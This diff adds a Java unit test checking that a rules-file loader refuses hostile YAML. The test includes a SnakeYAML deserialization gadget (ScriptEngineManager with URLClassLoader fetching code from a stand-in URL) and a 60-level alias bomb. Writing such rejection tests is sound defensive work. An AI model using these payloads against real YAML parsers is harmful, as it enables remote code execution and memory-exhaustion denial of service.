@@ -65,6 +65,22 @@ class RulesConfigLoaderTest {
     }
 
     @Test
+    void yamlTagsNeverBuildObjectsAndAliasBombsAreRefused() throws Exception {
+        Path tagged = write("tagged.yml", "rules: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader "
+                + "[[!!java.net.URL [\"http://example.invalid/\"]]]]\n");
+        StringBuilder bomb = new StringBuilder("a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
+        for (int i = 1; i <= 60; i++) {
+            bomb.append("a").append(i).append(": &a").append(i).append(" [*a").append(i - 1).append(", *a")
+                    .append(i - 1).append("]\n");
+        }
+        Path aliases = write("aliases.yml", bomb.toString());
+
+        assertThatThrownBy(() -> loader.load(tagged)).isInstanceOfSatisfying(InputException.class,
+                e -> assertThat(e.describe()).startsWith(tagged + ":1: invalid rules file at key 'rules'"));
+        assertThatThrownBy(() -> loader.load(aliases)).isInstanceOf(InputException.class);
+    }
+
+    @Test
     void readsJsonToo() throws Exception {
         Path file = write("rules.json", "{\"rules\": {\"misquote\": \"error\"}}");
 
